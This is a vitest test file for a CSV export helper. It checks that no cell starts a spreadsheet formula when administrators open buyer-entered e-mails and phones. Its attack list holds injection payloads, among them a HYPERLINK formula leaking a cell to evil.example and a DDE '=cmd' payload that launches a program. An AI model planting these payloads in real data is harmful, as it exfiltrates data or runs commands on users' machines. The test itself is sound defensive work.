import { describe, expect, it } from "vitest";
import { toCsv } from "~/lib/csv";

/**
 * CSV injection through the requests export: a buyer types a formula as their e-mail or phone, an
 * administrator opens the export in a spreadsheet, and the formula runs. Only a cell's first character
 * was checked, but a spreadsheet splits more than our commas: Excel in a Russian locale splits a CSV on
 * semicolons (where a quote in mid-field is just a character), LibreOffice may split on tabs, and a line
 * break starts a row. No part of a cell, however the file is split, may start a formula.
 */
const ATTACKS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
	'ok;=HYPERLINK("http://evil.example","x")',
	"ok; =1+1",
	"ok\t=1+1",
	"ok\t\t+1",
	"ok\r\n=1+1",
	"ok\n@SUM(A1:A9)",
	"ok\r-2+3",
	"a,=1+1",
	"a, -2+3",
	"\t=1+1",
	"\r=1+1",
	'ok;"=1+1"',
	"x;;;=cmd|' /C calc'!A0",
	"+7 916 123-45-67",
	"-",
];

const FORMULA = /^[=+\-@]/;

/**
 * The cells a spreadsheet reads from `csv` when it splits on `separator`: a field that starts with a quote
 * runs to its closing quote (a doubled quote is a quote); any other field ends at the separator or a line
 * break, quotes inside it being plain characters (Excel's reading of a field that does not start quoted).
 */
function cellsAsSplitBy(csv: string, separator: string): string[] {
	const text = csv.replace(/^\uFEFF/, "");
	const cells: string[] = [];
	let i = 0;
	while (i < text.length) {
		let cell = "";
		if (text[i] === '"') {
			i += 1;
			while (i < text.length) {
				if (text[i] === '"' && text[i + 1] === '"') {
					cell += '"';
					i += 2;
				} else if (text[i] === '"') {
					i += 1;
					break;
				} else {
					cell += text[i];
					i += 1;
				}
			}
			// Anything after the closing quote up to the separator belongs to the same cell.
			while (i < text.length && text[i] !== separator && text[i] !== "\r" && text[i] !== "\n") {
				cell += text[i];
				i += 1;
			}
		} else {
			while (i < text.length && text[i] !== separator && text[i] !== "\r" && text[i] !== "\n") {
				cell += text[i];
				i += 1;
			}
		}
		cells.push(cell);
		if (text[i] === "\r" && text[i + 1] === "\n") i += 2;
		else i += 1;
	}
	return cells;
}

describe("CSV formula injection", () => {
	for (const separator of [",", ";", "\t"]) {
		it(`no cell starts a formula when the export is split on ${JSON.stringify(separator)}`, () => {
			const csv = toCsv([
				["id", "email", "phone"],
				...ATTACKS.map((attack, index) => [index + 1, attack, attack]),
			]);
			const formulas = cellsAsSplitBy(csv, separator).filter((cell) => FORMULA.test(cell.trimStart()));
			expect(formulas).toEqual([]);
		});
	}

	it("keeps every cell whole when read as written (comma-separated, quoted), apostrophes aside", () => {
		for (const attack of ATTACKS) {
			const csv = toCsv([[attack]]);
			const [cell] = cellsAsSplitByRecord(csv);
			expect(cell?.replaceAll("'", "")).toBe(attack.replaceAll("'", ""));
		}
	});

	it("leaves numbers and harmless text as they are", () => {
		expect(toCsv([[1, -5, "Anna", "anna@example.com", null]])).toBe("\uFEFF1,-5,Anna,anna@example.com,\r\n");
	});
});

/** The first record of `csv` as RFC 4180 reads it (quoted cells may span lines). */
function cellsAsSplitByRecord(csv: string): string[] {
	const text = csv.replace(/^\uFEFF/, "").replace(/\r\n$/, "");
	const cells: string[] = [];
	let cell = "";
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const char = text[i];
		if (quoted) {
			if (char === '"' && text[i + 1] === '"') {
				cell += '"';
				i += 1;
			} else if (char === '"') quoted = false;
			else cell += char;
		} else if (char === '"') quoted = true;
		else if (char === ",") {
			cells.push(cell);
			cell = "";
		} else cell += char;
	}
	cells.push(cell);
	return cells;
}
